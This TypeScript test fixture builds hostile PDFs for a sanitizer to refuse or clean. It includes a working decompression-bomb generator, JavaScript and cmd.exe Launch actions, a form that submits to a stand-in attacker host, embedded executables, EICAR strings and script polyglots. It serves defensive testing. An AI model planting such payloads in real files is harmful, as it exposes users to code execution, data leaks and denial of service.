/** PDFs that are cut, bombs, locked, active, infected, two things at once, or full of remarks. */
import zlib from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { EICAR } from '@/platform/files/marks'
import type { HostileFile } from './hostile-file'
import { blankPages, pagePdf, pdfOf, PHOTO_REMARKS, photoWithPlace, SAMPLE, streamOf, zipOf } from './sample-files'

const text = (value: string) => Buffer.from(value, 'latin1')
const deflated = (bytes: Buffer | string) => zlib.deflateSync(Buffer.from(bytes as string))

/** A zlib stream that unpacks to so many MiB of zeros, made in a moment: packed blocks may be repeated behind a full flush. */
function bomb(mebibytes: number): Buffer {
  const block = zlib.deflateRawSync(Buffer.alloc(1 << 20), { finishFlush: zlib.constants.Z_FULL_FLUSH, level: 9 })
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: mebibytes }, () => block), Buffer.from([0x03, 0x00]), Buffer.alloc(4)])
}

async function locked(passwords: { userPassword?: string; ownerPassword: string }): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage().drawText('locked')
  document.encrypt(passwords)
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

const script = '<</S/JavaScript/JS(app.alert\\("evil script"\\))>>'
const launch = '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c evil program)>>>>'

/** Actions and attachments that are taken out, each with the words that must be gone. */
function active(): HostileFile[] {
  const cases: readonly [what: string, bytes: Buffer, gone: readonly string[]][] = [
    ['a script when opened', pagePdf({ catalog: `/OpenAction ${script}` }), ['JavaScript', 'evil script', 'OpenAction']],
    ['scripts by name', pagePdf({ catalog: '/Names<</JavaScript<</Names[(a)6 0 R]>>>>', objects: [script] }), ['JavaScript', 'evil script']],
    ['a script under a masked name', pagePdf({ catalog: '/Open#41ction<</S/J#61vaScript/J#53(app.alert\\("evil script"\\))>>' }), ['JavaScript', 'J#61va', 'evil script']],
    ['a script when a page is shown', pagePdf({ page: `/AA<</O ${script}/C ${script}>>` }), ['JavaScript', 'evil script', '/AA']],
    ['a program started when opened', pagePdf({ catalog: `/OpenAction ${launch}` }), ['Launch', 'cmd.exe', 'evil program']],
    ['a program behind a link', pagePdf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A ${launch}>>]` }), ['Launch', 'cmd.exe', 'Annots']],
    ['a form that sends itself away', pagePdf({ page: '/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>>>]', catalog: '/AcroForm<</Fields[]>>' }), ['SubmitForm', 'evil.example', 'AcroForm']],
    ['a link to elsewhere', pagePdf({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example)>>>>]' }), ['URI', 'evil.example']],
    ['an attached file', pagePdf({ catalog: '/Names<</EmbeddedFiles<</Names[(evil.exe)6 0 R]>>>>', objects: ['<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>', streamOf('/Type/EmbeddedFile/Filter/FlateDecode', deflated('MZ evil program'))] }), ['EmbeddedFile', 'evil.exe', 'evil program']],
    ['a file attached to a page', pagePdf({ page: '/AF[6 0 R]/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>]', objects: ['<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>', streamOf('/Type/EmbeddedFile', 'MZ evil program')] }), ['Filespec', 'evil.exe', 'evil program']],
    ['a file attached to a picture', pagePdf({ resources: '/XObject<</A 6 0 R>>', objects: [streamOf('/Type/XObject/Subtype/Form/BBox[0 0 1 1]/AF[7 0 R]/Metadata 8 0 R', 'q Q'), '<</Type/Filespec/F(evil.exe)>>', streamOf('/Type/Metadata/Subtype/XML', '<x>Owner Fictional</x>')] }), ['evil.exe', 'Owner Fictional', 'Metadata']],
    ['a form drawn by a program beside its pages', pagePdf({ catalog: '/AcroForm<</XFA 6 0 R/Fields[]>>', objects: [streamOf('', '<xdp:xdp>evil form</xdp:xdp>')] }), ['XFA', 'evil form']],
    ['a film and a stage', pagePdf({ page: '/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<<>>>>>>]' }), ['RichMedia']],
    ['remarks on owner and program', pagePdf({ trailer: '/Info 6 0 R', catalog: '/Metadata 7 0 R/PieceInfo<</X<</Private(Owner Fictional)>>>>', objects: ['<</Author(Owner Fictional)/Producer(Program Fictional)>>', streamOf('/Type/Metadata/Subtype/XML', '<x:xmpmeta>Owner Fictional</x:xmpmeta>')] }), ['Owner Fictional', 'Program Fictional', 'xmpmeta', 'PieceInfo']],
    ['an earlier version', Buffer.concat([pagePdf({ objects: [streamOf('', 'earlier words')] }), text('6 0 obj\n<<>>\nendobj\nxref\n0 0\ntrailer\n<</Size 7/Root 1 0 R>>\nstartxref\n0\n%%EOF\n')]), ['earlier words']],
    ['a script that no parser understands', pagePdf({ resources: '/ExtGState<</G 6 0 R>>', objects: ['<</S/JavaScript/JS(evil script)/ <<>> ]]'] }), ['evil script']],
  ]
  return cases.map(([what, bytes, gone]) => ({ what: `a PDF with ${what}`, name: 'form.pdf', bytes, due: 'neutralized', gone }))
}

async function withPhoto(): Promise<HostileFile> {
  const photo = await photoWithPlace()
  const image = streamOf(`/Type/XObject/Subtype/Image/Width ${SAMPLE.width}/Height ${SAMPLE.height}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode`, photo)
  return { what: 'a PDF around a photo with place and owner', name: 'scan.pdf', bytes: pagePdf({ resources: '/XObject<</P 6 0 R>>', objects: [image] }), due: 'neutralized', gone: PHOTO_REMARKS }
}

const pagesInCircles = () => pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>'])
const onePageOften = () => pdfOf(['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Count 1/Kids[${'3 0 R '.repeat(50_000)}]>>`, '<</Type/Page/Parent 2 0 R>>'])

export async function hostilePdfs(): Promise<HostileFile[]> {
  const plain = pagePdf()
  const refused = (due: HostileFile['due'], what: string, bytes: Buffer): HostileFile => ({ what, name: 'form.pdf', bytes, due })
  const unpacking = (dict: string, bytes: Buffer) => pagePdf({ objects: [streamOf(dict, bytes)] })
  return [
    refused('damaged', 'a PDF cut in the middle', plain.subarray(0, plain.length / 2)),
    refused('damaged', 'a PDF without its end mark', plain.subarray(0, plain.length - 8)),
    refused('damaged', 'a PDF of nothing but its ends', text('%PDF-1.7\n%%EOF\n')),
    refused('damaged', 'a PDF without pages', pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'])),
    refused('damaged', 'a PDF whose pages lead in circles', pagesInCircles()),

    refused('too-many-pages', 'a PDF of 100,000 pages', blankPages(100_000)),
    refused('too-many-pages', 'a PDF of 31 pages', blankPages(31)),
    refused('too-many-pages', 'a PDF that shows one page 50,000 times', onePageOften()),
    refused('too-costly', 'a PDF that unpacks to 400 MiB', unpacking('/Filter/FlateDecode', bomb(400))),
    refused('too-costly', 'a PDF that unpacks twice, to 400 MiB', unpacking('/Filter[/FlateDecode/FlateDecode]', deflated(bomb(400)))),
    refused('too-costly', 'a PDF that unpacks to 1.2 GiB in eight streams', pagePdf({ objects: Array.from({ length: 8 }, () => streamOf('/Filter/FlateDecode', bomb(150))) })),
    refused('too-costly', 'a PDF whose objects unpack to 4 GiB', unpacking('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', bomb(4096))),
    refused('too-costly', 'a PDF with a hundred filters', unpacking(`/Filter[${'/FlateDecode'.repeat(100)}]`, deflated('x'))),
    refused('too-many-pixels', 'a PDF around a picture of 3.6 billion pixels', unpacking('/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode', deflated(Buffer.alloc(99)))),

    refused('encrypted', 'a PDF locked with a password', await locked({ userPassword: 'secret', ownerPassword: 'owner' })),
    refused('encrypted', 'a PDF locked against changes', await locked({ ownerPassword: 'owner' })),
    refused('active-content', 'a PDF that is drawn by a program', pagePdf({ catalog: '/NeedsRendering true/AcroForm<</XFA 6 0 R>>', objects: [streamOf('', '<xdp:xdp/>')] })),
    refused('active-content', 'a PDF that wraps other files', pagePdf({ catalog: '/Collection<</View/D>>' })),
    refused('active-content', 'a PDF with a picture in PostScript', pagePdf({ resources: '/XObject<</P 6 0 R>>', objects: [streamOf('/Type/XObject/Subtype/PS', '(evil) run')] })),

    refused('disguised', 'a PDF that begins as a web page', Buffer.concat([text('<html><script>alert(1)</script>'), plain])),
    refused('disguised', 'a PDF that begins as a program', Buffer.concat([text('#!/bin/sh\nexit\n'), plain])),
    refused('disguised', 'a PDF with a ZIP behind it', Buffer.concat([plain, zipOf('a.txt', 'hello')])),
    refused('disguised', 'a PDF with a web page behind it', Buffer.concat([plain, text('<html><body onload=alert(1)>')])),
    refused('disguised', 'a PDF with a script behind its header', Buffer.concat([text('%PDF-1.7\n%<script>alert(1)</script>\n'), plain.subarray(9)])),

    refused('malware', 'a PDF with the EICAR file in a stream', unpacking('/Filter/FlateDecode', deflated(EICAR))),
    refused('malware', 'a PDF with the EICAR file packed twice', unpacking('/Filter[/FlateDecode/FlateDecode]', deflated(deflated(EICAR)))),
    refused('malware', 'a PDF with the EICAR file in hexadecimal', unpacking('/Filter/ASCIIHexDecode', text(`${EICAR.toString('hex')}>`))),
    refused('malware', 'a PDF with the EICAR file attached', pagePdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>', objects: ['<</Type/Filespec/EF<</F 7 0 R>>>>', streamOf('/Type/EmbeddedFile', EICAR)] })),

    ...active(),
    { what: 'a PDF nested 100,000 deep', name: 'form.pdf', bytes: pagePdf({ resources: '/ExtGState 6 0 R', objects: ['['.repeat(100_000) + ']'.repeat(100_000)] }), due: 'neutralized', gone: ['[[[['] },
    await withPhoto(),
  ]
}
